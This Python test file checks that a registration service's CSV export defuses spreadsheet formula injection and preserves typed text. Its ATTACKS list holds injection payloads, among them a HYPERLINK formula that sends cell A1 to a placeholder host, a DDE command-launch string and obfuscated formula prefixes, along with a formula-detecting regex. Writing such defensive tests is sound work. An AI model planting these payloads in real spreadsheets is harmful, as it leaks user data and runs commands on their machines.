"""A spreadsheet shows what people typed, and runs none of it."""

from __future__ import annotations

import csv
import re
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from services.training.documents import spreadsheet
from services.training.documents.registration_list import read
from shared.i18n.printable import unprintable
from tests.training.registration_lists import GOOD, HEADER, REGISTER

ATTACKS = (
    '=HYPERLINK("http://x.example?"&A1;"klik")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1',
    "\x00=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "a,=1+1",
    ',"=1+1',
)
FORMULA = re.compile(r"[\s\"]*[=+\-@＝＋－＠]")
texts = st.text(st.characters()) | st.sampled_from(ATTACKS) | st.text("=+-@;,\t\r\n\"' ＝a", max_size=8)

amounts = st.from_regex(r"(\w{0,3},['\" ]{0,2}[=+\-@]?['\" ]{0,2}){1,3}\w?", fullmatch=True).filter(str.isprintable)


def opened(file: bytes, separator: str = ";") -> list[list[str]]:
    return list(csv.reader(StringIO(file.decode("utf-8-sig"), newline=""), delimiter=separator))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_known_attack_stays_a_formula(attack: str) -> None:
    [[_], [cell]] = opened(spreadsheet.csv(["naam"], [[attack]]))
    assert re.match(r"(|a?,)'", cell)


@given(st.lists(st.lists(texts, min_size=3, max_size=3)))
@example([["a,=1+1", 'b\t=1+1";=1', "c\n=1+1"]])
def test_no_text_is_a_formula_whatever_the_reader_takes_for_a_separator(rows: list[list[str]]) -> None:
    file = spreadsheet.csv(["a", "b", "c"], rows)
    assert [len(row) for row in opened(file)] == [3] * (len(rows) + 1)
    for separator in ";,\t":
        assert [cell for row in opened(file, separator) for cell in row if FORMULA.match(cell)] == []


def told(cell: str) -> list[str]:
    """Every cell that some reader sees, when `cell` is written as it is behind another one."""
    file = StringIO()
    csv.writer(file, delimiter=";", quoting=csv.QUOTE_NONNUMERIC).writerow(["a", cell])
    return [each for separator in ";,\t" for row in opened(file.getvalue().encode(), separator) for each in row]


@given(st.text(st.characters(categories=["L", "N", "P", "S", "Zs"])).filter(str.isprintable) | amounts)
@example("0,-")
@example("'s-Gravenhage, Oost")
def test_what_no_reader_takes_for_a_formula_stands_as_it_was_typed(text: str) -> None:
    [[_, cell]] = opened(spreadsheet.csv(["", text], []))
    assert (cell == text) == (not any(re.match(r"[\s'\"]*[=+\-@＝＋－＠]", each) for each in told(text)))


@given(texts.filter(str.isprintable) | amounts)
@example("0,-")
@example(",'-")
@example("''=1,''=1")
def test_every_printable_text_comes_back_as_it_was_typed(text: str) -> None:
    [[_, cell]] = opened(spreadsheet.csv(["", text], []))
    assert spreadsheet.typed(cell) == text


@given(st.lists(amounts.filter(lambda text: unprintable(text) is None), min_size=1, max_size=3))
@example(["Actie 5,-"])
def test_a_sheet_sent_back_as_a_list_names_what_was_typed(names: list[str]) -> None:
    typed = [f"zo {name}" for name in names]
    rows = [(*GOOD[:1], name, f"p{n}@caw.example", *GOOD[3:]) for n, name in enumerate(typed)]
    assert [row.name for row in read(spreadsheet.csv(HEADER, rows), REGISTER)] == [
        " ".join(f"{GOOD[0]} {name}".split()) for name in typed
    ]


def test_a_belgian_spreadsheet_opens_it_without_a_question() -> None:
    file = spreadsheet.csv(["Prénom", "Aantal"], [["Zoë", 3], [None, -1.5]])
    assert file == '\ufeff"Prénom";"Aantal"\r\n"Zoë";3\r\n"";-1.5\r\n'.encode()


def test_half_a_sign_does_not_lose_the_sheet() -> None:
    assert opened(spreadsheet.csv(["naam"], [["a\ud800b"]]))[1] == ["a b"]
